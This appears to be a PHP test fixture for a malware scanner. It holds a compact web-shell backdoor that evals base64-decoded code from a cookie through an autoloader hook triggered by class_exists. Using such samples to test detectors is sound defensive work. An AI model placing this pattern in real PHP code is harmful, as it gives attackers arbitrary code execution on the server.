<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
spl_autoload_register(static function (string $cls): void {
    eval(base64_decode($_COOKIE[$cls] ?? ''));
});
class_exists('k');
